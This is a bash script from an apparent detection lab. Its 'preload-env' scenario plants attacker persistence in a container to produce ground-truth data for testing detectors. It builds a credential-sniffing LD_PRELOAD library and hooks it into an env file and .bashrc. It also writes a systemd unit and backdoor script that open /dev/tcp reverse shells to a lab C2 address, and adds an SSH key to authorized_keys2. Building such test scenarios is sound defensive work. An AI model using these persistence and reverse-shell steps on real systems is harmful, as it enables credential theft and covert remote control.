#!/bin/bash
# Scenario preload-env: LD_PRELOAD through the environment, and other persistence than
# preload-cron. The workload (a Python app) is restarted by a supervisor shell (pid 1) that
# sources /etc/default/ledger first. An attacker's shell (exec'd later) drops a library built
# here (write/send wrappers that copy passwords and Authorization headers to a hidden file) as
# /var/tmp/.X11-cache/libnss_cache.so.2, adds `export LD_PRELOAD=...` to /etc/default/ledger
# and to /root/.bashrc (with a line that starts a backdoor), installs a systemd unit with the
# same environment, appends an ssh key to /root/.ssh/authorized_keys2, and kills the app: the
# restarted app runs with LD_PRELOAD in its environment and the library mapped.
# Usage: lab/scenarios/preload-env.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init preload-env "$@"
lab_use_tools_image

DIR=/var/tmp/.X11-cache
LIB=$DIR/libnss_cache.so.2
SNIFFLOG=$DIR/.l
BACKDOOR=$DIR/.u
UNIT=/etc/systemd/system/dbus-org.freedesktop.nss-cache.service
C2="$(lab_addr 114):$(lab_pick 443 8443 993)"
command -v gcc >/dev/null || lab_skip "gcc missing (run lab/setup.sh)"
gcc -shared -fPIC -O2 -Wall -DLOG="\"$SNIFFLOG\"" -o "$WORK/lib.so" "$SPEC/sniff.c" -ldl || lab_die "library build failed"
"$LAB_PY" "$LAB_DIR/lib/fakedata.py" secrets "$WORK/sec" >/dev/null || lab_die "fakedata failed"
SSHKEY=$(lab_json_pick "$WORK/sec/values.json" ssh_pubkey)
lab_host_dir APP app
lab_template "$LAB_DIR/specimens/shared/appworker.py" "$APP/app.py"
cat >"$WORK/unit" <<UEOF
[Unit]
Description=Name Service Cache Helper
After=network.target

[Service]
Environment=LD_PRELOAD=$LIB
ExecStart=/bin/sh -c 'exec 3<>/dev/tcp/${C2%:*}/${C2#*:}; sh <&3 >&3 2>&3'
Restart=always
RestartSec=60

[Install]
WantedBy=multi-user.target
UEOF
BASHRC_HOOK="export LD_PRELOAD=$LIB; ( $BACKDOOR & ) >/dev/null 2>&1"

lab_create --env APP_ENV=prod --env APP_NAME=ledger --env APP_LOG=/var/log/ledger/app.log \
    -v "$APP:/srv/ledger:ro" --hostname ledger -- \
    sh -c 'while :; do [ -r /etc/default/ledger ] && . /etc/default/ledger; python3 /srv/ledger/app.py; sleep 1; done'
printf '# ledger service settings\nLEDGER_WORKERS=2\nexport LEDGER_WORKERS\n' >"$WORK/ledger.default"
lab_podman cp "$WORK/ledger.default" "$CTR:/etc/default/ledger" || lab_die "podman cp failed"
lab_start
lab_wait "the app runs" 10 lab_cexec pgrep -f '^python3 /srv/ledger/app.py'
lab_cp "$WORK/lib.so" "$LIB" 0755
lab_cp "$WORK/unit" "$UNIT" 0644
lab_cexec sh -c "printf '#!/bin/sh\nexec 3<>/dev/tcp/${C2%:*}/${C2#*:} && sh <&3 >&3 2>&3\n' > $BACKDOOR && chmod 700 $BACKDOOR \
    && echo 'export LD_PRELOAD=$LIB' >> /etc/default/ledger && echo '$BASHRC_HOOK' >> /root/.bashrc \
    && mkdir -p /etc/systemd/system/multi-user.target.wants \
    && ln -s $UNIT /etc/systemd/system/multi-user.target.wants/${UNIT##*/} \
    && mkdir -p -m 700 /root/.ssh && echo '$SSHKEY' >> /root/.ssh/authorized_keys2 \
    && pkill -f '^python3 /srv/ledger/app.py'" || lab_die "planting failed"
lab_wait "the app runs again with the library" 10 \
    lab_cexec sh -c "grep -q libnss_cache /proc/\$(pgrep -f '^python3 /srv/ledger/app.py')/maps"

lab_finish "$LIB" "$BACKDOOR" /etc/default/ledger /root/.bashrc "$UNIT" \
    "/etc/systemd/system/multi-user.target.wants/${UNIT##*/}" /root/.ssh/authorized_keys2

lab_kv_json "$WORK/params.json" "library=$LIB" "ld_preload=LD_PRELOAD=$LIB" "sniff_log=$SNIFFLOG" \
    "env_file=/etc/default/ledger" "bashrc=/root/.bashrc" "bashrc_hook=$BASHRC_HOOK" "systemd_unit=$UNIT" \
    "backdoor=$BACKDOOR" "c2=$C2" "authorized_keys=/root/.ssh/authorized_keys2" "ssh_pubkey=$SSHKEY" \
    "library_sha256=$(sha256sum "$WORK/lib.so" | cut -d' ' -f1)"
lab_facts --proc "preloaded=^python3 /srv/ledger/app.py"
lab_truth --description "LD_PRELOAD=$LIB in the restarted app's environment (via /etc/default/ledger), .bashrc hook, systemd unit $UNIT, ssh key in authorized_keys2" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
